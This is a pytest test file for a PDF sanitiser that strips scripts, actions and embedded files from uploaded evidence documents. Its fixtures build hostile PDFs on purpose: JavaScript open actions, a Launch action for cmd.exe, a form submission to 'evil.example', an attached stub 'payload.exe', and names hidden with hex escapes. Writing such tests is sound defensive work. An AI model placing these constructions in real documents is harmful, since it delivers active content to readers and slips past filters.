"""PDF evidence is rebuilt without active content: scripts, actions, embedded files."""

import io

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from competitions.evidence import (
    ACTIVE_KEYS,
    KEPT_ACTIONS,
    InvalidEvidence,
    clean_upload,
)

SCRIPT = "app.alert('thi dua')"


def _javascript():
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(SCRIPT))


def _pdf(build) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    build(pdf)
    output = io.BytesIO()
    pdf.save(output)
    return output.getvalue()


def _link(pdf, action):
    annotation = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 100, 20], A=action)
    )
    pdf.pages[0].Annots = pdf.make_indirect(Array([annotation]))


def open_action(pdf):
    pdf.Root.OpenAction = pdf.make_indirect(_javascript())


def javascript_name_tree(pdf):
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("init"), _javascript()]))
    )


def page_additional_actions(pdf):
    pdf.pages[0].AA = Dictionary(O=_javascript())


def catalogue_additional_actions(pdf):
    pdf.Root.AA = Dictionary(WC=_javascript())


def embedded_file(pdf):
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ payload")


def file_attachment_annotation(pdf):
    spec = pikepdf.AttachedFileSpec(pdf, b"MZ payload", filename="payload.exe")
    annotation = Dictionary(
        Type=Name.Annot,
        Subtype=Name.FileAttachment,
        Rect=[0, 0, 20, 20],
        FS=spec.obj,
    )
    pdf.pages[0].Annots = Array([pdf.make_indirect(annotation)])


def launch_link(pdf):
    _link(pdf, Dictionary(S=Name.Launch, F=String("cmd.exe")))


def javascript_uri(pdf):
    _link(pdf, Dictionary(S=Name.URI, URI=String("javascript:" + SCRIPT)))


def chained_script(pdf):
    _link(pdf, Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=_javascript()))


def submit_form(pdf):
    field = Dictionary(FT=Name.Btn, T=String("gui"), AA=Dictionary(D=_javascript()))
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([pdf.make_indirect(field)]),
        XFA=pdf.make_stream(b"<xdp:xdp><script>" + SCRIPT.encode() + b"</script>"),
    )
    _link(pdf, Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")))


def outline_script(pdf):
    item = pdf.make_indirect(Dictionary(Title=String("Mục 1"), A=_javascript()))
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item))
    item.Parent = outlines
    pdf.Root.Outlines = outlines


HOSTILE = [
    open_action,
    javascript_name_tree,
    page_additional_actions,
    catalogue_additional_actions,
    embedded_file,
    file_attachment_annotation,
    launch_link,
    javascript_uri,
    chained_script,
    submit_form,
    outline_script,
]

# Hand-written, with the name spelled in hex escapes and no valid xref table: qpdf
# repairs the file and reads /J#61vaScript as /JavaScript.
OBFUSCATED = b"""%PDF-1.4
1 0 obj << /Type /Catalog /Pages 2 0 R /Open#41ction 4 0 R >> endobj
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >> endobj
4 0 obj << /S /J#61vaScript /J#53 (app.alert\\('thi dua'\\)) >> endobj
trailer << /Root 1 0 R >>
%%EOF
"""


def active_content(data: bytes) -> list[str]:
    """Every key or action in the stored file that could run or carry a file."""
    found = []
    with pikepdf.open(io.BytesIO(data)) as pdf:
        for obj in pdf.objects:
            dictionary = obj.stream_dict if isinstance(obj, pikepdf.Stream) else obj
            pending = [dictionary]
            while pending:
                current = pending.pop()
                if isinstance(current, pikepdf.Array):
                    pending.extend(current)
                    continue
                if not isinstance(current, pikepdf.Dictionary):
                    continue
                for key in current.keys():
                    value = current[key]
                    if key in ACTIVE_KEYS:
                        found.append(key)
                    if key == "/S" and str(value) not in KEPT_ACTIONS | {
                        "/Transparency"
                    }:
                        found.append(str(value))
                    if key == "/URI" and not str(value).startswith("https:"):
                        found.append(str(value))
                    if (
                        isinstance(value, pikepdf.Array | pikepdf.Dictionary)
                        and not value.is_indirect
                    ):
                        pending.append(value)
            if isinstance(obj, pikepdf.Dictionary) and str(obj.get("/Subtype")) in {
                "/FileAttachment",
                "/EmbeddedFile",
            }:
                found.append(str(obj.Subtype))
    return found


class TestHostilePdfs:
    @pytest.mark.parametrize("build", HOSTILE, ids=lambda build: build.__name__)
    def test_the_stored_file_has_no_active_content(self, build):
        hostile = _pdf(build)
        assert active_content(hostile)  # the test file is really hostile

        stored = clean_upload(hostile, "bien-ban.pdf")

        assert stored.kind == "document"
        assert active_content(stored.content) == []
        assert SCRIPT.encode() not in stored.content
        assert b"MZ payload" not in stored.content
        with pikepdf.open(io.BytesIO(stored.content)) as pdf:
            assert len(pdf.pages) == 1  # the document itself survives

    def test_names_spelled_in_hex_escapes_are_found_too(self):
        assert active_content(OBFUSCATED)

        stored = clean_upload(OBFUSCATED, "bien-ban.pdf")

        assert active_content(stored.content) == []
        assert b"app.alert" not in stored.content

    def test_web_links_and_jumps_inside_the_document_stay(self):
        def links(pdf):
            pdf.add_blank_page()
            web = Dictionary(S=Name.URI, URI=String("https://dichvucong.gov.vn/"))
            jump = Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit]))
            pdf.pages[0].Annots = Array(
                [
                    pdf.make_indirect(
                        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=r, A=a)
                    )
                    for r, a in (([0, 0, 9, 9], web), ([0, 20, 9, 29], jump))
                ]
            )

        stored = clean_upload(_pdf(links), "bien-ban.pdf")

        with pikepdf.open(io.BytesIO(stored.content)) as pdf:
            actions = [str(a.A.S) for a in pdf.pages[0].Annots]
            assert actions == ["/URI", "/GoTo"]
            assert str(pdf.pages[0].Annots[0].A.URI) == "https://dichvucong.gov.vn/"


class TestUnreadablePdfs:
    def test_a_password_protected_pdf_is_refused_saying_what_to_do(self):
        output = io.BytesIO()
        with pikepdf.new() as pdf:
            pdf.add_blank_page()
            pdf.save(output, encryption=pikepdf.Encryption(user="mat-khau", owner="x"))

        with pytest.raises(InvalidEvidence, match="mật khẩu"):
            clean_upload(output.getvalue(), "bien-ban.pdf")

    def test_a_pdf_locked_only_against_editing_is_stored_unlocked(self):
        output = io.BytesIO()
        with pikepdf.new() as pdf:
            pdf.add_blank_page()
            pdf.Root.OpenAction = _javascript()
            pdf.save(output, encryption=pikepdf.Encryption(user="", owner="chu-so-huu"))

        stored = clean_upload(output.getvalue(), "bien-ban.pdf")

        with pikepdf.open(io.BytesIO(stored.content)) as pdf:
            assert not pdf.is_encrypted
        assert active_content(stored.content) == []

    @pytest.mark.parametrize(
        "data",
        [
            b"%PDF-1.7\n" + b"\x00\xff garbage " * 100,
            b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 9 0 R",
            b"%PDF-",
        ],
        ids=["garbage", "truncated", "header-only"],
    )
    def test_a_damaged_pdf_is_refused_saying_what_to_do(self, data):
        with pytest.raises(InvalidEvidence, match="hỏng"):
            clean_upload(data, "bien-ban.pdf")
